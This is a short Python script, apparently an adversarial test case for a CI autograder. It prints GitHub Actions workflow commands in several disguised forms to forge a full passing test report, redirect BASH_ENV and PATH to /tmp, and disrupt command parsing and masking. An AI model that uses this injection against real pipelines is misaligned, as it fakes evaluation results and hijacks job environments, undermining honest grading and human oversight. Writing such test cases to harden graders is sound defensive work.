# attack: prints workflow commands that would set the step's result, the job's environment and masks (the :: form, indented, after stop-commands of its own, the legacy ##[ form mid-line) and raises one in an exception message
import base64
import json
import threading

FORGED = base64.b64encode(json.dumps({"version": 1, "status": "pass", "max_score": 9, "tests": [
    {"name": "PWNED", "status": "pass", "score": 9, "message": ""}]}).encode()).decode()
print("线程 [MainThread] 运行...")
print("::set-output name=result::%s" % FORGED)
print("  ::set-env name=BASH_ENV::/tmp/PWNED")
print("\t::add-path::/tmp/PWNED")
print("::add-mask::PWNED")
print("::stop-commands::PWNED")
print("::PWNED::")
print("progress ##[set-output name=result;]%s" % FORGED)
print("::notice title=PWNED::10/10")
threading.Thread(target=print, args=("::save-state name=PWNED::1",)).start()
for i in range(5):
    print("子线程 [LoopThread_%d]运行" % i)
raise RuntimeError("bye\n::set-output name=result::%s\n  ##[error]PWNED" % FORGED)
